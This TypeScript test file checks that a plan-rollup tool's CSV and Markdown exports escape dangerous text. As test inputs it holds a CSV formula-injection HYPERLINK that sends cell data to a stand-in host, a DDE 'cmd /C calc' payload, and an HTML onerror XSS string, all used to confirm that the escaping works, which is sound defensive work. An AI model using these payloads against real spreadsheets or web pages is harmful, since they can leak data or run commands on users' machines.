/**
 * The rollup's text outputs as the CLI and "Copy as Markdown / CSV" write them: plan text that a
 * spreadsheet would run as a formula stays text, and Markdown table cells cannot break the table.
 */
import { strict as assert } from 'node:assert';
import { analyzePlans, rollupCsv, rollupMarkdown, toRollupJson } from '../../src/core';
import { day, yaml } from '../utils/plans';

const names = {
  formula: '=HYPERLINK("https://example.invalid/?x="&A1,"open")',
  plus: '+1+cmd|" /C calc"!A0',
  minus: '-2+3',
  at: '@SUM(1,2)',
  tab: '\tleading tab',
  pipe: 'A | B',
};

const json = toRollupJson(
  analyzePlans(
    [
      {
        path: 'p.plan.yaml',
        text: yaml`
          program:
            id: g
            name: ${JSON.stringify(names.pipe)}
            projects:
              - { id: f, name: ${JSON.stringify(names.formula)}, start: 2026-01-01, duration: 5d }
              - { id: p, name: ${JSON.stringify(names.plus)}, start: 2026-01-01, duration: 5d }
              - { id: m, name: ${JSON.stringify(names.minus)}, start: 2026-01-01, duration: 5d }
              - { id: a, name: ${JSON.stringify(names.at)}, start: 2026-01-01, duration: 5d }
              - { id: t, name: ${JSON.stringify(names.tab)}, start: 2026-01-01, duration: 5d }
        `,
      },
    ],
    { statusDate: day('2026-01-03') },
  ),
);

describe('rollup text outputs', () => {
  it('CSV: text a spreadsheet would run as a formula starts with an apostrophe, and is quoted where it must be', () => {
    const lines = rollupCsv(json).split('\r\n');
    const row = (id: string) => lines.find((line) => line.startsWith(`project,${id},`))!;
    // The formula holds quotes and commas, so the whole cell is quoted and its quotes doubled.
    assert.ok(row('f').startsWith(`project,f,"'=HYPERLINK(""https://example.invalid/?x=""&A1,""open"")",`), row('f'));
    assert.ok(row('p').startsWith(`project,p,"'+1+cmd|"" /C calc""!A0",`), row('p'));
    assert.ok(row('m').startsWith("project,m,'-2+3,"), row('m'));
    assert.ok(row('a').startsWith(`project,a,"'@SUM(1,2)",`), row('a'));
    assert.ok(row('t').startsWith("project,t,'\tleading tab,"), row('t'));
    // Numbers are numbers, never escaped (a negative figure stays a number).
    assert.match(lines[0], /^level,id,name,parent,/);
  });

  it('Markdown: a pipe in a name is escaped, so the row keeps its columns', () => {
    const header = rollupMarkdown(json).split('\n')[2];
    const row = rollupMarkdown(json).split('\n').find((line) => line.startsWith('| program |'))!;
    const cells = (line: string) => line.split(/(?<!\\)\|/).length;
    assert.equal(cells(row), cells(header));
    assert.ok(row.includes('A \\| B'), row);
  });

  it('Markdown: no HTML and no character reference from a plan passes through (one markdownCell writes the cells of rollup, people, quality and diff)', () => {
    const text = `program: { id: g, name: ${JSON.stringify('<b>Bold</b> &amp; A\\B')}, projects: [{ id: x, name: ${JSON.stringify('<img src=x onerror=alert(1)>')}, start: 2026-01-01, duration: 5d }] }\n`;
    const hostile = toRollupJson(analyzePlans([{ path: 'h.plan.yaml', text }], { statusDate: day('2026-01-03') }));
    const md = rollupMarkdown(hostile);
    assert.ok(!/<[a-z]/i.test(md) && !md.includes('&amp;'), md);
    assert.ok(md.includes('&#60;b&#62;Bold&#60;/b&#62; &#38;amp; A\\\\B'), md);
  });

  it('JSON: figures in the order SPEC 7 lists them (earned schedule, then the slip, last)', () => {
    assert.deepEqual(Object.keys(json.programs[0].figures).slice(-7), ['issues', 'es', 'at', 'spiT', 'svT', 'ieacT', 'slip']);
  });

  it('CSV and Markdown: an id written twice (an error) gives both projects their own row', () => {
    const twice = toRollupJson(analyzePlans([{ path: 'd.plan.yaml', text: yaml`
      program: { id: g, name: G, projects: [{ id: x, name: First X, start: 2026-01-01, duration: 5d }] }
      ---
      project: { id: x, name: Second X, program: g, start: 2026-01-01, duration: 5d }
    ` }], { statusDate: day('2026-01-03') }));
    const names = (text: string) => ['First X', 'Second X'].map((name) => text.split(name).length - 1);
    assert.deepEqual(names(rollupCsv(twice)), [1, 1]);
    assert.deepEqual(names(rollupMarkdown(twice)), [1, 1]);
  });
});
